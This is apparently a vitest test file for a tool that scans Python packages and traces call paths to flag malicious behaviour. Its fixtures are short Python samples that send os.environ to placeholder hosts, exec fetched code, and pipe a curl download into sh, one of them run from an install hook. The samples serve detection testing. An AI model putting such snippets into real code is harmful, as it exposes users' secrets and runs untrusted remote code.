import { describe, expect, test } from 'vitest';
import type { Inspection } from '../../../../server/src/inspect/inspection.ts';
import { entered, link } from '../../../../server/src/inspect/python/link.ts';
import { lookIntoWheel } from '../../../support/inspecting.ts';
import { does, followed } from './followed.ts';

const telling = { functions: 'telling' } as const;
const net =
  'import requests\ndef send(data):\n    requests.post("https://collect.example.invalid/x", data=data)\n';

function strong({ evidence }: Inspection): string[] {
  return evidence
    .filter(({ weight }) => weight >= 0.5)
    .map(({ rule, file, when }) => `${rule} ${file} ${when}`);
}

describe('functions that nothing in their file runs', () => {
  test.each([
    ['sending what it is given', net, 'send'],
    ['reading a file', 'def read(path):\n    return open(path).read()\n', 'read'],
    [
      'running what it is given',
      'import os\nclass Tool:\n    def run(self, c):\n        os.system(c)\n',
      'Tool.run',
    ],
  ])('are left where nothing comes of %s', (_, source, name) => {
    const behaviour = followed(source, {}, telling);
    expect([...(behaviour.left ?? [])]).toEqual([name]);
    expect(does(behaviour)).toEqual([]);
  });

  test.each([
    [
      'what is collected is sent',
      'import os, requests\ndef f():\n    requests.post("https://x.example.invalid", data=dict(os.environ))\n',
    ],
    ['what is fetched is executed', 'import requests\ndef f(u):\n    exec(requests.get(u).text)\n'],
    ['a program is told to fetch', 'import os\ndef f(u):\n    os.system("curl " + u + " | sh")\n'],
  ])('are followed where %s', (_, source) => {
    const behaviour = followed(source, {}, telling);
    expect(behaviour.left).toBeUndefined();
    expect(behaviour.roots.map(({ name }) => name)).toContain('f');
  });

  test('are followed once of several that call the same', () => {
    const source = `import os, requests
def inner():
    requests.post("https://x.example.invalid", data=dict(os.environ))
def outer():
    inner()
`;
    const behaviour = followed(source, {}, telling);
    expect(behaviour.roots.map(({ name }) => name)).toEqual(['module level', 'inner']);
    expect([...(behaviour.left ?? [])]).toEqual(['outer']);
  });

  test('are followed where their parts come together in who calls them', () => {
    const source = `import os, requests
def gather():
    return dict(os.environ)
def send(data):
    requests.post("https://x.example.invalid", data=data)
def report():
    send(gather())
`;
    const behaviour = followed(source, {}, telling);
    expect(behaviour.roots.map(({ name }) => name)).toEqual(['module level', 'report']);
  });

  test('are followed where the file hands them on', () => {
    const source = `${net}import other\nother.Client.post = send\n`;
    expect(followed(source, {}, telling).roots.map(({ name }) => name)).toContain('send');
  });
});

describe('functions that other files enter', () => {
  test('are named by their file and class', () => {
    const helper = followed(
      'import os\nclass Tool:\n    def __init__(self, c):\n        os.system(c)\n',
      { file: 'acme/tool.py', module: 'acme.tool' },
      telling,
    );
    const caller = followed('from acme.tool import Tool\nTool("id")', {
      file: 'setup.py',
      module: null,
      trigger: 'install',
    });
    expect([...entered(link([helper, caller]))]).toEqual([[0, new Set(['Tool.__init__'])]]);
  });

  test('are not asked for by code that somebody has to call', () => {
    const helper = followed(net, { file: 'acme/net.py', module: 'acme.net' }, telling);
    const caller = followed('from acme.net import send\ndef f():\n    send(1)', {
      file: 'acme/use.py',
      module: 'acme.use',
    });
    expect(entered(link([helper, caller])).size).toBe(0);
  });

  test('are followed with what they are given', async () => {
    const inspection = await lookIntoWheel({
      'acme/__init__.py': 'import os, shutil\nfrom .net import send\nsend(dict(os.environ))\n',
      'acme/net.py': net,
    });
    expect(strong(inspection)).toContain('collect-send acme/net.py import');
  });

  test('are followed from file to file, as deep as they lie', async () => {
    const depth = 8;
    const files = Object.fromEntries(
      Array.from({ length: depth }, (_, at) => [
        `acme/m${at}.py`,
        `import subprocess\nfrom .m${at + 1} import f${at + 1}\ndef f${at}(data):\n    subprocess.call(["true"])\n    f${at + 1}(data)\n`,
      ]),
    );
    const inspection = await lookIntoWheel({
      'acme/__init__.py': 'import os, shutil\nfrom .m0 import f0\nf0(dict(os.environ))\n',
      ...files,
      [`acme/m${depth}.py`]: net.replace('send', `f${depth}`),
    });
    expect(strong(inspection)).toContain(`collect-send acme/m${depth}.py import`);
  });

  test('are found behind a file without a word that reaches, through a function that was left out', async () => {
    const inspection = await lookIntoWheel({
      'acme/__init__.py': 'from .net import outer\nouter()\n',
      'acme/net.py':
        'import os, requests\ndef inner():\n    requests.post("https://x.example.invalid", data=dict(os.environ))\ndef outer():\n    inner()\n',
    });
    expect(strong(inspection)).toContain('collect-send acme/net.py import');
  });
});
